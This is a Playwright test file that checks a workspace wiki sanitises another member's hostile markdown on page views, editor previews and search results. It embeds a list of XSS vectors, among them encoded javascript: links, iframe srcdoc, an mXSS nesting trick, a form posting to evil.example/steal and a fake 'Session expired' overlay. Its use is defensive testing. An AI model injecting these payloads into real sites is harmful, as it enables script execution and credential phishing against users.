// Markdown written by another member of the workspace is the threat: a page full of
// script-injection payloads, created through the API by a second user, is viewed by the
// first one — on the page view, in the editor's live preview and in search snippets.
// Nothing may run (each payload sets its own window.__xss_* flag; dialogs are watched),
// no javascript:/data: link may survive, no iframe/object/embed/form/style element may be
// in the rendered content, and clicking what is left of the links runs nothing.
//
// Run twice: as served (the server's Content-Security-Policy on) and with the policy
// bypassed, which proves the sanitiser on its own rather than leaning on the CSP.
import type { Locator, Page } from "@playwright/test";
import { expect, pageUrl, registerUser, test } from "../fixtures";

const PAYLOAD = `# Quarterly notes <img src=x onerror="window.__xss_heading=1">

Search marker: zebrafish.

<script>window.__xss_script = 1</script>

<img src=x onerror="window.__xss_img = 1">

[md js link](javascript:window.__xss_mdjs=1)

[md data link](data:text/html,<script>window.__xss_mddata=1</script>)

<a href="javascript:window.__xss_rawjs=1" id="rawjs">raw js link</a>

<a href="JaVaScRiPt&colon;window.__xss_rawjs2=1">encoded js link</a>

<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3NfZGF0YT0xPC9zY3JpcHQ+">raw data link</a>

<iframe src="javascript:window.parent.__xss_iframe=1"></iframe>

<iframe srcdoc="<script>parent.__xss_srcdoc=1</script>"></iframe>

<style>body { display: none !important; } .page-title { color: rgb(255, 0, 0) !important; }</style>

<svg><script>window.__xss_svgscript = 1</script></svg>

<svg onload="window.__xss_svgonload = 1"><circle r="4"></circle></svg>

<object data="javascript:window.__xss_object=1"></object>

<embed src="javascript:window.__xss_embed=1">

<form action="https://evil.example/steal" method="post"><input name="q" value="x"><button id="evil-submit">Send</button></form>

<details open ontoggle="window.__xss_toggle=1"><summary>details</summary>x</details>

<math><mtext><table><mglyph><style><img src=x onerror="window.__xss_mxss=1"></style></mglyph></table></mtext></math>

<div onclick="window.__xss_onclick=1" id="clicky">click me</div>

[[<img src=x onerror="window.__xss_wikilink=1">]] and [[Target|<b onmouseover="window.__xss_wlabel=1">label</b>]]

## Heading <script>window.__xss_h2=1</script> two

The end, zebrafish again.
`;

async function flags(page: Page): Promise<string[]> {
  return page.evaluate(() => Object.keys(window).filter((k) => k.startsWith("__xss")));
}

async function assertInert(page: Page, content: Locator, dialogs: string[]): Promise<void> {
  await expect(content).toContainText("The end, zebrafish again.");
  // No script-capable or form elements in the rendered content.
  for (const sel of ["script", "iframe", "object", "embed", "form", "style", "[onerror]", "[onload]", "[onclick]", "[ontoggle]", "[onmouseover]", "[srcdoc]"]) {
    await expect(content.locator(sel), sel).toHaveCount(0);
  }
  // No javascript: or data: href anywhere in the document.
  const hrefs = await page.evaluate(() =>
    [...document.querySelectorAll("[href], [src], [action], [formaction], [xlink\\:href]")].flatMap((el) =>
      ["href", "src", "action", "formaction", "xlink:href"].map((a) => el.getAttribute(a) ?? "").filter(Boolean),
    ),
  );
  expect(hrefs.filter((h) => /^\s*(javascript|data:text|vbscript)/i.test(h))).toEqual([]);
  // The injected <style> did not restyle the page.
  await expect(page.locator("body")).toBeVisible();
  // Clicking and hovering what is left of the links and handlers runs nothing.
  for (const text of ["raw js link", "encoded js link", "raw data link", "click me", "label"]) {
    const el = content.getByText(text, { exact: true }).first();
    if ((await el.count()) === 0) continue;
    await el.hover();
    await el.click();
  }
  await page.waitForTimeout(300);
  expect(await flags(page)).toEqual([]);
  expect(dialogs).toEqual([]);
}

for (const bypassCSP of [false, true]) {
  test.describe(bypassCSP ? "with the CSP bypassed (the sanitiser alone)" : "as served (with the CSP)", () => {
    test.use({ bypassCSP });

    test("another member's hostile markdown runs nothing: page, preview, search", async ({ page, playwright, baseURL, user, guard }) => {
      // Chromium reports inline handlers in parsed (inert) HTML as CSP violations; the
      // policy refusing them is what we want.
      guard.allowed.push(/violates the following Content Security Policy/);
      const dialogs: string[] = [];
      page.on("dialog", (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });

      // The attacker: another account, a member of the victim's workspace.
      const other = await playwright.request.newContext({ baseURL });
      await registerUser(other, "Mallory");
      const me = await (await other.get("/api/me")).json();
      const added = await page.request.post(`/api/workspaces/${user.workspace}/members`, { data: { email: me.email, role: "member" } });
      expect(added.status(), await added.text()).toBe(201);
      const created = await other.post(`/api/pages?ws=${user.workspace}`, {
        data: { title: `Notes <img src=x onerror="window.__xss_title=1">`, slug: "hostile", content: PAYLOAD },
      });
      expect(created.status(), await created.text()).toBe(201);
      await other.dispose();

      // The page view.
      await page.goto("/app/hostile");
      await expect(page.locator(".page-title")).toContainText("Notes <img");
      const content = page.locator(".page-content");
      await assertInert(page, content, dialogs);
      await expect(page).toHaveURL(pageUrl("hostile"));
      // The injected stylesheet did not apply.
      expect(await page.locator(".page-title").evaluate((el) => getComputedStyle(el).color)).not.toBe("rgb(255, 0, 0)");
      // The outline shows the headings' text, not markup.
      await expect(page.locator(".toc")).not.toContainText("<script>");

      // The editor's live preview.
      await page.goto("/app/hostile/edit");
      const preview = page.locator(".editor-preview .page-content");
      await expect(page.getByTestId("source-editor")).toBeVisible();
      await assertInert(page, preview, dialogs);

      // Search snippets: instant results and the results page.
      await page.goto("/app/");
      await page.getByRole("searchbox").fill("zebrafish");
      const results = page.getByRole("listbox");
      await expect(results.getByRole("option").first()).toBeVisible();
      await expect(results.locator("script, img, iframe, a[href^='javascript']")).toHaveCount(0);
      await page.goto("/app/-/search?q=zebrafish&mode=keyword");
      await expect(page.locator(".results li").first()).toBeVisible();
      await expect(page.locator(".results").locator("script, img, iframe, svg, style")).toHaveCount(0);
      await page.waitForTimeout(200);
      expect(await flags(page)).toEqual([]);
      expect(dialogs).toEqual([]);
    });
  });
}

test("a writer's inline style cannot lay anything over the app", async ({ page, user }) => {
  void user;
  const overlay =
    '<div id="overlay" style="position:fixed; inset:0; z-index:9999; background:rgb(1, 2, 3); color:rgb(200, 0, 0); top:0">Session expired</div>\n\n' +
    '<p id="moved" style="transform:translateY(-500px); position:absolute; left:0">Moved up</p>\n\n' +
    '<span id="coloured" style="color:rgb(0, 128, 0)">kept colour</span>\n';
  const res = await page.request.post("/api/pages", { data: { slug: "overlay", content: overlay } });
  expect(res.status()).toBe(201);
  await page.goto("/app/overlay");
  const box = page.locator(".page-content #overlay");
  await expect(box).toHaveText("Session expired");
  const style = (sel: string, prop: string) =>
    page.locator(`.page-content ${sel}`).evaluate((el, p) => getComputedStyle(el).getPropertyValue(p), prop);
  expect(await style("#overlay", "position")).toBe("static");
  expect(await style("#overlay", "z-index")).toBe("auto");
  expect(await style("#moved", "position")).toBe("static");
  expect(await style("#moved", "transform")).toBe("none");
  // What does not place content stays: colours.
  expect(await style("#overlay", "background-color")).toBe("rgb(1, 2, 3)");
  expect(await style("#coloured", "color")).toBe("rgb(0, 128, 0)");
  // The page's own header is still there to click.
  await expect(page.locator("header").first()).toBeVisible();
});
